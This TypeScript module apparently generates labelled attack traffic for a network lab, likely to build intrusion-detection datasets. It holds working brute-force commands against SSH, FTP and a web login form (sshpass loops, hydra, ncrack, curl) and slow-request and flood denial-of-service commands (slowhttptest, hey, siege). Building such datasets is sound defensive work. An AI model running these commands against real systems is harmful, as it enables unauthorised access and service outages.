import type {Attack, Scene, ServiceName} from "../configuration.ts";
import {ownProgram} from "../servers.ts";

const quiet =
  "-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -o PubkeyAuthentication=no";

function guess(
  service: ServiceName,
  tool: string,
  needs: readonly string[],
  seconds: number,
  argv: (scene: Scene, address: string, port: string) => string[]
): Attack {
  return {
    label: "BruteForce",
    tool,
    needs,
    against: [service],
    plan(scene) {
      const {address, port} = scene.endpoints[service];
      return {commands: [argv(scene, address, `${port}`)], seconds, to: [address], ports: [port]};
    }
  };
}

/** Guesses at the speed of a person: one connection every few seconds. */
export const sshByHand = guess("ssh", "ssh-by-hand", ["ssh", "sshpass"], 90, ({random}, address, port) => [
  ...[
    "sh",
    "-c",
    `for i in $(seq 9 40); do sshpass -p guess$i ssh ${quiet} -o NumberOfPasswordPrompts=1 -p ${port} ${random.pick(["root", "admin", "flowlab"])}@${address} true; sleep ${random.uniform(1.5, 6).toFixed(1)}; done`
  ]
]);
export const hydraPatient = guess("ssh", "hydra-patient", ["hydra"], 90, ({folder, random}, address, port) => [
  ...[
    "hydra",
    "-q",
    "-I",
    "-l",
    "root",
    "-P",
    `${folder}/passwords`,
    "-t",
    "1",
    "-c",
    `${random.integer(3, 8)}`,
    "-s",
    port,
    address,
    "ssh"
  ]
]);
export const ncrackSsh = guess("ssh", "ncrack-ssh", ["ncrack"], 30, ({folder, random}, address, port) => [
  ...[
    "ncrack",
    "-U",
    `${folder}/users`,
    "-P",
    `${folder}/passwords`,
    `-T${random.integer(2, 4)}`,
    "-g",
    `CL=${random.integer(1, 6)}`,
    `ssh://${address}:${port}`
  ]
]);
export const ftpByHand = guess("ftp", "ftp-by-hand", ["curl"], 80, ({random}, address, port) => [
  ...[
    "sh",
    "-c",
    `for i in $(seq 40); do curl -s -m 8 -u admin:guess$i ftp://${address}:${port}/ >/dev/null; sleep ${random.uniform(1, 5).toFixed(1)}; done`
  ]
]);
export const formByHand = guess("https", "form-by-hand", ["curl"], 70, ({random}, address, port) => [
  ...[
    "sh",
    "-c",
    `for i in $(seq 60); do curl -sk -m 8 -d "user=anna&pass=guess$i" https://${address}:${port}/app/login >/dev/null; sleep ${random.uniform(0.4, 3).toFixed(1)}; done`
  ]
]);

/** Requests that are told so slowly that a server's places fill up. */
function slowly(
  service: "http" | "https",
  tool: string,
  needs: readonly string[],
  seconds: number,
  argv: (scene: Scene, address: string, port: number) => string[]
): Attack {
  return {
    label: "DoS",
    tool,
    needs,
    against: [service],
    plan(scene) {
      const {address, port} = scene.endpoints[service];
      return {commands: [argv(scene, address, port)], seconds, to: [address], ports: [port]};
    }
  };
}

export const drip = slowly("http", "drip", [], 75, ({random}, address, port) =>
  ownProgram(
    "own/drip.ts",
    JSON.stringify({
      address,
      port,
      tls: false,
      connections: random.integer(20, 60),
      everySeconds: random.uniform(2, 9),
      body: random.chance(0.4),
      seed: random.integer(1, 1e9)
    })
  )
);
export const dripTls = slowly("https", "drip-tls", [], 75, ({random}, address, port) =>
  ownProgram(
    "own/drip.ts",
    JSON.stringify({
      address,
      port,
      tls: true,
      connections: random.integer(15, 40),
      everySeconds: random.uniform(2, 9),
      body: random.chance(0.4),
      seed: random.integer(1, 1e9)
    })
  )
);
export const slowHttpFew = slowly("http", "slow-http-few", ["slowhttptest"], 70, ({random}, address, port) => [
  ...[
    "slowhttptest",
    random.pick(["-H", "-B"]),
    "-c",
    `${random.integer(20, 60)}`,
    "-r",
    `${random.integer(2, 10)}`,
    "-i",
    `${random.integer(4, 10)}`,
    "-l",
    "65",
    "-u",
    `http://${address}:${port}/app/login`
  ]
]);
/** Goldeneye-like: kept connections with ever new requests. */
export const heyFlood = slowly("http", "hey", ["hey"], 15, ({random}, address, port) => [
  ...[
    "hey",
    "-z",
    `${random.integer(4, 9)}s`,
    "-c",
    `${random.integer(40, 80)}`,
    "-q",
    "6",
    "-disable-keepalive",
    `http://${address}:${port}/f/1.bin`
  ]
]);
export const siegeFlood = slowly("https", "siege", ["siege"], 16, ({random}, address, port) => [
  ...[
    "siege",
    "-q",
    "-b",
    "-c",
    `${random.integer(15, 30)}`,
    "-t",
    `${random.integer(3, 6)}S`,
    `https://${address}:${port}/app/search?q=${random.word(3)}`
  ]
]);
